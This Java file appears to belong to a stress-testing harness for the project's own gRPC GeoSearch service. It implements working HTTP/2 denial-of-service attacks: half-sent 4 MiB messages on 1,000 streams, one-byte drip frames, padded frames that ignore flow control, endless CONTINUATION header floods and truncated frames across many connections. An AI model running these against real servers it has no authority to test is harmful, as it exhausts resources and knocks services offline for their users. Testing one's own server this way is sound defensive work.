package geosearch.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.List;

/** Messages and headers that are announced and never end. */
final class HalfMessages {

  private static final int ANNOUNCED = 4 << 20;
  private static final int STREAMS = 1_000;
  private static final int CONNECTIONS = 4;
  private static final byte[] LOCATE = Frames.call(Requests.LOCATE);
  private static final byte[] BATCH = Frames.call("/geosearch.v1.GeoSearch/LocateBatch");

  private HalfMessages() {}

  static List<Attack> attacks() {
    return List.of(
        new Attack(
            "half-messages",
            "4 MiB announced, all but a byte sent, on 1,000 streams of 4 connections",
            true,
            stage -> stage.each(CONNECTIONS, c -> send(stage, c, Frames.LARGEST))),
        new Attack(
            "half-messages-one",
            "the same on 1,000 streams of one connection",
            false,
            stage -> stage.each(1, c -> send(stage, c, Frames.LARGEST))),
        new Attack(
            "half-messages-many",
            "the same on 1,000 streams of 50 connections",
            false,
            stage -> stage.each(50, c -> send(stage, c, Frames.LARGEST))),
        new Attack(
            "half-messages-slow",
            "1 kB at a time on 1,000 streams of 4 connections",
            false,
            stage -> stage.each(CONNECTIONS, c -> send(stage, c, 1_024))),
        new Attack(
            "drip",
            "messages of 4 MiB in frames of one byte, on 1,000 streams of 4 connections",
            true,
            stage -> stage.each(CONNECTIONS, c -> send(stage, c, 1))),
        new Attack(
            "padded-drip",
            "the same with 255 bytes of padding about each byte",
            false,
            stage -> stage.each(CONNECTIONS, c -> padded(stage, c))),
        new Attack(
            "half-headers",
            "headers that go on in CONTINUATION frames without end, on 200 connections",
            true,
            stage -> stage.each(200, c -> headers(stage, c))),
        new Attack(
            "half-frames",
            "frames of 16 kB of which a byte is missing, on 1,000 connections",
            false,
            stage -> stage.each(1_000, c -> frame(stage, c))));
  }

  /** Sends to each stream in turn as much as the windows allow. */
  private static void send(Stage stage, RawConnection connection, int atOnce) throws IOException {
    byte[] bytes = new byte[Frames.LARGEST];
    byte[] announced = ByteBuffer.allocate(5).put((byte) 0).putInt(ANNOUNCED).array();
    int[] streams = new int[STREAMS];
    long[] sent = new long[STREAMS];
    for (int i = 0; i < STREAMS; i++) {
      streams[i] = connection.call(i % 2 == 0 ? LOCATE : BATCH, false);
      connection.data(streams[i], announced, 0, announced.length, false);
    }
    while (stage.goesOn() && !connection.ended()) {
      long before = sum(sent);
      for (int i = 0; i < STREAMS && stage.goesOn(); i++) {
        int most = (int) Math.min(atOnce, ANNOUNCED - 1 - sent[i]);
        sent[i] += connection.someData(streams[i], bytes, 0, most, false);
      }
      connection.flush();
      if (sum(sent) == before) {
        stage.pause(10);
      }
    }
  }

  private static long sum(long[] values) {
    long sum = 0;
    for (long value : values) {
      sum += value;
    }
    return sum;
  }

  private static void padded(Stage stage, RawConnection connection) throws IOException {
    byte[] announced = ByteBuffer.allocate(5).put((byte) 0).putInt(ANNOUNCED).array();
    byte[] payload = new byte[257];
    payload[0] = (byte) 255;
    int[] streams = new int[STREAMS];
    for (int i = 0; i < STREAMS; i++) {
      streams[i] = connection.call(LOCATE, false);
      connection.data(streams[i], announced, 0, announced.length, false);
    }
    // The connection's own window is not watched: who breaks it is sent away, and begins anew.
    while (stage.goesOn() && !connection.ended()) {
      for (int stream : streams) {
        connection.frame(Frames.DATA, Frames.PADDED, stream, payload);
      }
      connection.flush();
      stage.pause(20);
    }
  }

  private static void headers(Stage stage, RawConnection connection) throws IOException {
    int stream = connection.stream();
    connection.frame(Frames.HEADERS, 0, stream, LOCATE);
    byte[] more = new Frames.Block().literal("x", "y").bytes();
    for (int i = 0; stage.goesOn() && !connection.ended(); i++) {
      connection.frame(Frames.CONTINUATION, 0, stream, i % 2 == 0 ? more : Frames.NOTHING);
      connection.flush();
      stage.pause(i < 1_000 ? 1 : 100);
    }
  }

  private static void frame(Stage stage, RawConnection connection) throws IOException {
    int stream = connection.call(LOCATE, false);
    ByteBuffer part = ByteBuffer.allocate(Frames.HEADER_BYTES + Frames.LARGEST);
    Frames.header(part, Frames.LARGEST, Frames.DATA, 0, stream);
    part.put((byte) 0).putInt(ANNOUNCED);
    byte[] all = part.array();
    connection.bytes(java.util.Arrays.copyOf(all, all.length - 1));
    connection.flush();
    stage.rest();
  }
}
